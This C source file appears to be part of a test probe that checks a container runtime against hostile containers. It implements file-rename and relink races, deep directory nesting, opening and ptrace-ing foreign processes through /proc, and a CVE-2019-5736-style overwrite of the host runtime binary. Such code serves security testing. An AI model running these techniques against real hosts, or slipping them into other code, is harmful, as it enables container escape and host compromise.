/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Attacks: what a hostile container does to the runtime that starts another one with the same
 * volume, or that comes in by exec. Most go on until they are killed, LIFE_LIMIT_SECONDS at most.
 */
#include "probe.h"

#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#define LIFE_LIMIT_SECONDS 600

/* "A,B" in two; the second is "" if there is none. */
static void split(const char *argument, char a[256], char b[256])
{
	*b = '\0';
	if (sscanf(argument, "%255[^,],%255s", a, b) < 1)
		exit(99);
}

/* Exchange two names with each other, as fast as it goes. */
static void do_exchange(const char *argument)
{
	char a[256], b[256];

	split(argument, a, b);
	alarm(LIFE_LIMIT_SECONDS);
	for (;;)
		if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0)
			exit(98);
}

/* Put a further link to the file FROM in the place of TO whenever there is something, and away. */
static void do_relink(const char *argument)
{
	char from[256], to[256], temporary[300];
	struct stat st;

	split(argument, from, to);
	snprintf(temporary, sizeof(temporary), "%s.new", to);
	alarm(LIFE_LIMIT_SECONDS);
	for (;;) {
		if (lstat(to, &st) < 0)
			continue;
		unlink(temporary);
		if (link(from, temporary) < 0 || rename(temporary, to) < 0)
			exit(98);
		unlink(to);
	}
}

/* DIRECTORY,DEPTH: directories with long names in each other, beyond what a path can say. */
static void do_nest(const char *argument)
{
	static const char name[] = "a-name-of-hundred-letters-nested-so-deep-that-no-path-"
				   "leads-there-any-more-only-step-after-step-down";
	char path[256], depth[256];
	int r;

	split(argument, path, depth);
	r = chdir(path);
	for (int i = 0; r == 0 && i < atoi(depth); i++)
		r = mkdir(name, 0755) < 0 ? -1 : chdir(name);
	print_result("nest", argument, r);
}

/* Is this process none of the container's own? Those run the probe, busybox, or nothing any more. */
static bool is_foreign(const char *pid, char comm[64])
{
	static const char *const own[] = {"probe", "busybox", "sh", "sleep", "true", "evil"};
	char path[300];
	FILE *f;

	snprintf(path, sizeof(path), "/proc/%s/comm", pid);
	f = fopen(path, "re");
	if (!f)
		return false;
	if (!fgets(comm, 64, f))
		*comm = '\0';
	fclose(f);
	comm[strcspn(comm, "\n")] = '\0';
	for (size_t i = 0; i < sizeof(own) / sizeof(own[0]); i++)
		if (strcmp(comm, own[i]) == 0)
			return false;
	return *comm;
}

/* Each process that is seen in /proc, again and again. */
static void __attribute__((noreturn)) watch_processes(void (*look)(const char *pid, FILE *log),
						      const char *log_file)
{
	FILE *log = fopen(log_file, "ae");

	if (!log)
		exit(97);
	setvbuf(log, NULL, _IOLBF, 0);
	fputs("watching\n", log);
	alarm(LIFE_LIMIT_SECONDS);
	for (;;) {
		DIR *proc = opendir("/proc");
		const struct dirent *d;

		while (proc && (d = readdir(proc)))
			if (isdigit((unsigned char)*d->d_name) && atoi(d->d_name) != getpid())
				look(d->d_name, log);
		if (proc)
			closedir(proc);
	}
}

/* Whatever of a foreign process can be opened is a way out: its files, root, memory, or itself. */
static void spy_on(const char *pid, FILE *log)
{
	static const struct {
		const char *name;
		int flags;
	} doors[] = {{"fd/0", O_PATH}, {"fd/3", O_PATH}, {"root", O_PATH},   {"cwd", O_PATH},
		     {"exe", O_PATH},  {"mem", O_RDWR},  {"maps", O_RDONLY}, {"environ", O_RDONLY}};
	char path[300], comm[64];

	if (!is_foreign(pid, comm))
		return;
	for (size_t i = 0; i < sizeof(doors) / sizeof(doors[0]); i++) {
		int fd;

		snprintf(path, sizeof(path), "/proc/%s/%s", pid, doors[i].name);
		fd = open(path, doors[i].flags | O_CLOEXEC);
		if (fd >= 0 && is_foreign(pid, comm)) /* not the program that it has become */
			fprintf(log, "opened %s of %s\n", doors[i].name, comm);
		if (fd >= 0)
			close(fd);
	}
	if (ptrace(PTRACE_SEIZE, atoi(pid), NULL, NULL) == 0) {
		if (is_foreign(pid, comm))
			fprintf(log, "traced %s\n", comm);
		/* Else the program that it becomes would stay a zombie until we reap it. */
		ptrace(PTRACE_INTERRUPT, atoi(pid), NULL, NULL);
		waitpid(atoi(pid), NULL, __WALL);
		ptrace(PTRACE_DETACH, atoi(pid), NULL, NULL);
	}
}

static void do_spy(const char *argument)
{
	watch_processes(spy_on, argument);
}

/*
 * CVE-2019-5736: take hold of a program that is none of the image's, and write to it as soon as it
 * runs no longer. A file of the host's and an unsealed memory file both let us.
 */
static void overwrite(const char *pid, FILE *log)
{
	char path[300], target[300] = "", again[64];
	int fd, written = -1;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	if (readlink(path, target, sizeof(target) - 1) < 0 || strncmp(target, "/bin/", 5) == 0)
		return;
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return;
	fprintf(log, "holds %s\n", target);
	snprintf(again, sizeof(again), "/proc/self/fd/%d", fd);
	for (int tries = 0; tries < 1000 && written < 0; tries++) {
		written = open(again, O_WRONLY | O_CLOEXEC);
		if (written < 0 && errno != ETXTBSY)
			break;
		usleep(100);
	}
	if (written >= 0 && pwrite(written, "owned", 5, 0) == 5)
		fprintf(log, "overwritten %s\n", target);
	if (written >= 0)
		close(written);
	close(fd);
}

static void do_overwrite(const char *argument)
{
	watch_processes(overwrite, argument);
}

const struct request attack_requests[] = {
	{"exchange", do_exchange, "exchange:PATH,PATH for ever"},
	{"relink", do_relink, "relink:FILE,PLACE: put the file there whenever something is, for ever"},
	{"nest", do_nest, "nest:DIRECTORY,DEPTH: directories in each other"},
	{"spy", do_spy, "spy:LOG: open what belongs to processes that are not the container's"},
	{"overwrite", do_overwrite, "overwrite:LOG: write to programs that are not the container's"},
	{NULL, NULL, NULL},
};
